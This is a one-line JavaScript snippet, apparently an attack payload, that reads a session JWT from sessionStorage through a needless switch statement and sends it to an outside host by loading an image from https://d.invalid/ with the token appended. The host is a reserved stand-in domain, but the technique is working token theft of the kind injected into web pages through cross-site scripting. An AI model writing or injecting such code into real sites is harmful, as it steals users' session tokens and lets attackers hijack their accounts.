let out; switch (1) { case 1: out = sessionStorage.getItem('jwt'); break; default: out = ''; } new Image().src = `https://d.invalid/${out}`;
